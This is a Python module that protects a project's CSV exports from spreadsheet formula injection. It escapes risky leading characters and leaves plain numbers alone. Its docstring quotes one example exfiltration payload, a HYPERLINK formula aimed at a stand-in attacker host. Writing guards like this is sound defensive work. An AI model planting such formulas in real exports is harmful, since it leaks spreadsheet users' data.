"""CSV files for spreadsheets, without formula injection: every CSV export of the project goes through here.

A spreadsheet runs a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and a leading
tab or carriage return can hide such a start), e.g. a login typed as
``=HYPERLINK("http://evil.example/?"&A1,"Open")`` in the audit log. :func:`safe_cell` prefixes such a text
with an apostrophe, which the spreadsheet shows as the text itself (OWASP "CSV injection").

Numbers stay numbers: only ``str`` cells are guarded, and a ``str`` that is a plain number (``-12.50``,
``+3``, ``-1e-3``: what an amount or a coordinate formatted as text looks like) is left alone — a
spreadsheet reads it as that number, never as a formula.
"""
from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

__all__ = ["FORMULA_START", "safe_cell", "safe_row", "csv_bytes", "safe_frame", "frame_csv_bytes"]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet will not run it: a text starting with ``= + - @``, tab or CR gets a
    leading ``'``; other values (numbers, None, dates, a text that is a plain number) are returned as they are."""
    if isinstance(value, str) and value[:1] in FORMULA_START and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in row]


def csv_bytes(header: Sequence[Any] | None, rows: Iterable[Iterable[Any]]) -> bytes:
    """A CSV file (UTF-8 with a BOM, so spreadsheets read Cyrillic) with every cell through :func:`safe_cell`."""
    buf = io.StringIO()
    w = csv.writer(buf)
    if header is not None:
        w.writerow(safe_row(header))
    for r in rows:
        w.writerow(safe_row(r))
    return buf.getvalue().encode("utf-8-sig")


def safe_frame(df: Any) -> Any:
    """A copy of a pandas DataFrame with its text cells (and column names) through :func:`safe_cell`, for
    ``DataFrame.to_csv``; numeric columns are untouched."""
    out = df.copy()
    for col in out.columns:
        if out[col].dtype == object or str(out[col].dtype) in ("string", "str"):
            out[col] = out[col].map(safe_cell)
    out.columns = [safe_cell(c) for c in out.columns]
    return out


def frame_csv_bytes(df: Any) -> bytes:
    """A DataFrame as :func:`csv_bytes` makes a file: guarded cells, UTF-8 with a BOM, CRLF rows. (pandas'
    default ``\n`` line end would leave a text holding a CR unquoted, and the row broken in two.)"""
    return safe_frame(df).to_csv(index=False, lineterminator="\r\n").encode("utf-8-sig")
